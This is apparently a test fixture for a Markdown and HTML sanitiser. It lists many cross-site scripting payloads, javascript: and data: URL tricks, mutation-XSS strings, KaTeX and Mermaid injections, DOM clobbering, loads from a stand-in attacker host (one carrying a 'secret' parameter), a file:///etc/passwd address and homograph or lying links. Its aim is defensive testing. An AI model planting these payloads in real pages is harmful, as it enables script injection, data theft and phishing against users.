/** Texts that try to run code, load from elsewhere, or pass for what they are not; `hacked` tells on what ran. */
const RAW_HTML = [
  '<script>hacked.push(1)</script>',
  '<img src="https://evil.example/a.png" onerror="hacked.push(2)">',
  '<svg onload="hacked.push(3)"><animate onbegin="hacked.push(4)" attributeName="x" dur="1s"/></svg>',
  '<svg><use href="data:image/svg+xml,<svg onload=hacked.push(5)>#x"/></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>parent.hacked.push(6)</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=hacked.push(7)&gt;">',
  '<math><annotation-xml encoding="text/html"><img src=x onerror=hacked.push(8)></annotation-xml></math>',
  '<math><maction actiontype="statusline#https://evil.example" xlink:href="javascript:hacked.push(9)">x</maction></math>',
  '<form id="test"><input name="attributes"><button formaction="javascript:hacked.push(10)">x</button></form>',
  '<details open ontoggle="hacked.push(11)">x</details>',
  '<style>@import "https://evil.example/x.css"; * { background: url(https://evil.example/b.png) }</style>',
  '<div style="background:url(https://evil.example/c.png);position:fixed;inset:0">cover</div>',
  '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<link rel="stylesheet" href="https://evil.example/x.css"><object data="https://evil.example/"></object>',
  '<video><source onerror="hacked.push(12)"></video><audio src=x onerror=hacked.push(13)>',
  '<noscript><p title="</noscript><img src=x onerror=hacked.push(14)>"></noscript>',
  '<template><img src=x onerror=hacked.push(15)></template><xmp><img src=x onerror=hacked.push(16)></xmp>',
  '<a id="document" name="cookie" href="//evil.example">clobber</a><img name="getElementById">',
  '<!--><img src=x onerror=hacked.push(17)>--> <![CDATA[<img src=x onerror=hacked.push(18)>]]>',
  '<iframe src="javascript:parent.hacked.push(19)"></iframe><embed src="javascript:hacked.push(20)">',
];

const ADDRESSES = [
  'javascript:hacked.push(30)',
  'JaVaScRiPt:hacked.push(31)',
  'java\tscript:hacked.push(32)',
  '\u0001javascript:hacked.push(33)',
  '&#106;avascript:hacked.push(34)',
  '&#x6A;&#x61;vascript&colon;hacked.push(35)',
  'javascript&Tab;:hacked.push(36)',
  '%6Aavascript:hacked.push(37)',
  'vbscript:msgbox(1)',
  'data:text/html,<script>hacked.push(38)</script>',
  'data:text/html;base64,PHNjcmlwdD5oYWNrZWQucHVzaCgzOSk8L3NjcmlwdD4=',
  'blob:https://evil.example/x',
  'file:///etc/passwd',
  'view-source:javascript:hacked.push(40)',
  'https:javascript:hacked.push(41)',
  '//evil.example/x',
  '#/c/another',
  'feed:javascript:hacked.push(42)',
];

const LINKS = ADDRESSES.flatMap((address, index) => [
  `[word](${address})`,
  `[word](<${address}>)`,
  `![image](${address})`,
  `<${address}>`,
  `[ref ${index}]\n\n[ref ${index}]: ${address}`,
]);

const MARKDOWN = [
  '[a](https://example.org "onmouseover=hacked.push(50)" onclick=hacked.push(51))',
  '[a](https://example.org/"onmouseover="hacked.push(52))',
  "[a](https://example.org/'onmouseover='hacked.push(53))",
  '[![nested](https://evil.example/n.png)](javascript:hacked.push(54))',
  '[a [b](javascript:hacked.push(55)) c](https://example.org/)',
  '[<img src=x onerror=hacked.push(56)>](https://example.org/)',
  '![<img src=x onerror=hacked.push(57)>](https://evil.example/p.png?secret=abc)',
  '| <b onmouseover="hacked.push(58)">a</b> |\n|---|\n| <img src=x onerror=hacked.push(59)> |',
  '```html" onmouseover="hacked.push(60)\n</code></pre><img src=x onerror=hacked.push(61)>\n```',
  '```"><img/src=x/onerror=hacked.push(62)>\nx\n```',
  '# <img src=x onerror=hacked.push(63)>',
  '- [x] <input type=image src=https://evil.example/i onerror=hacked.push(64)>',
];

const FOOTNOTES = [
  'Note[^"><img/src=x/onerror=hacked.push(70)>]\n\n[^"><img/src=x/onerror=hacked.push(70)>]: text',
  'Note[^javascript:hacked.push(71)]\n\n[^javascript:hacked.push(71)]: <img src=x onerror=hacked.push(72)>',
  'Note[^__proto__] and[^constructor]\n\n[^__proto__]: one\n\n[^constructor]: [two](javascript:hacked.push(73))',
];

const MATHS = [
  '$\\href{javascript:hacked.push(80)}{x}$ $\\url{javascript:hacked.push(81)}$',
  '$\\includegraphics{https://evil.example/m.png}$',
  '$\\htmlStyle{background:url(https://evil.example/s.png)}{x}$ $\\htmlId{document}{x}$',
  '$\\htmlData{note=1}{x}$ $\\htmlClass{skip}{x}$',
  '$$\\text{<img src=x onerror=hacked.push(82)>}$$',
  '$</span><img src=x onerror=hacked.push(83)>$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$\\rule{1000000em}{1000000em}$$',
  '$\\fcolorbox{red}{url(https://evil.example/f.png)}{x}$ $\\colorbox{red}{$x$} \\fcolorbox{red}{blue}{y}$',
  '$$\\unicode{x3C}script\\unicode{x3E}$$',
];

/** Links whose words say another place than they lead to, each with the host that must be shown. */
export const LYING_LINKS: readonly (readonly [string, string])[] = [
  ['[https://bank.example](https://evil.example/)', 'evil.example'],
  ['[bank.example](https://evil.example/)', 'evil.example'],
  ['[www.bank.example/login](https://evil.example/bank.example)', 'evil.example'],
  ['[mine](https://аррӏе.com/)', 'xn--80ak6aa92e.com'],
  ['[mine](https://xn--80ak6aa92e.com/)', 'xn--80ak6aa92e.com'],
  ['[mine](https://gооgle.com/)', 'xn--ggle-55da.com'],
  ['[mine](https://bank.example@evil.example/)', 'evil.example'],
  ['[\u202eelpmaxe.knab](https://evil.example/)', 'evil.example'],
  ['[**bank.example**](https://evil.example/)', 'evil.example'],
];

export const HONEST_LINKS = [
  '[https://example.org/a](https://example.org/a)',
  'https://example.org/b',
  '[example.org](https://www.example.org/)',
  '[README.md](https://example.org/blob/README.md)',
  '[the docs](https://example.org/)',
  '[München](https://münchen.example/)',
];

export const ATTACKS: readonly string[] = [
  ...RAW_HTML,
  ...LINKS,
  ...MARKDOWN,
  ...FOOTNOTES,
  ...MATHS,
  ...LYING_LINKS.map(([text]) => text),
];

/** Sources of diagrams that try the same inside their frame. */
export const EVIL_DIAGRAMS = [
  'flowchart LR\n  A["<img src=x onerror=parent.hacked.push(90)>"] --> B\n  click A "javascript:hacked.push(91)"\n  click B href "https://evil.example/" _self',
  '%%{init: {"securityLevel": "loose", "theme": "base", "themeCSS": "* { background: url(https://evil.example/t.png) }", "htmlLabels": true}}%%\nflowchart LR\n  A["<script>hacked.push(92)</script>"] --> B["<iframe src=https://evil.example/>"]',
  'flowchart LR\n  A --> B\n  click A call alert(1)\n  style A fill:url(https://evil.example/u.png)',
  'flowchart LR\n  A@{ img: "https://evil.example/i.png", label: "x" }',
  'sequenceDiagram\n  A->>B: <svg onload=hacked.push(93)>\n  link A: x @ javascript:hacked.push(94)',
];
